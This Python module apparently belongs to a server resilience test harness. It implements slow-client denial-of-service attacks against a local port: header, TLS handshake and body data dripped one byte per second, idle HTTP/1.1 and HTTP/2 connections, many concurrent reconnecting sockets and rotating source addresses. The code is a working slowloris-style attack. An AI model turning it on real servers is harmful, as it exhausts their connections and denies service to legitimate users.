"""Attacks of a client that is slow: many connections, each of which says next to
nothing, and is opened anew when the server ends it."""

import asyncio
import time

from http2 import PREFACE, context, settings
from identity import ATTACKER

HEAD = "".join(f"{name}: {value}\r\n" for name, value in ATTACKER.items())


async def run(scenario: str, port: int, until: float, count: int, sources: list[str], note) -> None:
    behave = {"slow_heads": slow_head, "slow_handshakes": slow_handshake, "idle": idle, "idle_http2": idle_http2,
              "slow_bodies": slow_body}[scenario]
    gate = asyncio.Semaphore(100)
    tls = context() if scenario == "idle_http2" else None

    async def keep(number: int) -> None:
        source = sources[number % len(sources)]
        while time.monotonic() < until:
            try:
                async with gate:
                    reader, writer = await asyncio.wait_for(asyncio.open_connection(
                        "127.0.0.1", port, local_addr=(source, 0), ssl=tls, limit=1024,
                        server_hostname="localhost" if tls else None), 30)
            except (OSError, asyncio.TimeoutError) as error:
                note(f"no connection: {type(error).__name__}")
                await asyncio.sleep(0.5)
                continue
            note("connections")
            try:
                note(await behave(reader, writer, until))
            except OSError:
                note("closed")
            writer.close()

    await asyncio.gather(*(keep(number) for number in range(count)))


async def drip(reader, writer, text: bytes, until: float) -> str:
    """A byte a second; what the server says to that, if it ends it."""
    said = asyncio.ensure_future(reader.read(1024))
    for at in range(len(text)):
        if time.monotonic() > until:
            break
        writer.write(text[at : at + 1])
        done, _ = await asyncio.wait([said], timeout=1)
        if done:
            return verdict(said.result())
    else:
        await asyncio.wait([said], timeout=max(0.0, until - time.monotonic()))
        if said.done():
            return verdict(said.result())
    said.cancel()
    return "still open"


def verdict(answer: bytes) -> str:
    return answer[9:12].decode("latin1") if answer.startswith(b"HTTP/1.1 ") else "closed"


async def slow_head(reader, writer, until: float) -> str:
    head = f"GET / HTTP/1.1\r\nHost: localhost\r\n{HEAD}x-filler: {'a' * 3000}\r\n\r\n"
    return await drip(reader, writer, head.encode(), until)


async def slow_handshake(reader, writer, until: float) -> str:
    # A record of TLS that announces 512 bytes of a ClientHello.
    return await drip(reader, writer, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 500, until)


async def slow_body(reader, writer, until: float) -> str:
    head = f"POST /upload HTTP/1.1\r\nHost: localhost\r\n{HEAD}content-length: 100000\r\n\r\n"
    writer.write(head.encode())
    return await drip(reader, writer, b"a" * 3000, until)


async def idle(reader, writer, until: float) -> str:
    return await drip(reader, writer, b"", until)


async def idle_http2(reader, writer, until: float) -> str:
    writer.write(PREFACE + settings())
    while time.monotonic() < until:
        try:
            if not await asyncio.wait_for(reader.read(1024), max(0.01, until - time.monotonic())):
                return "closed"
        except asyncio.TimeoutError:
            break
    return "still open"
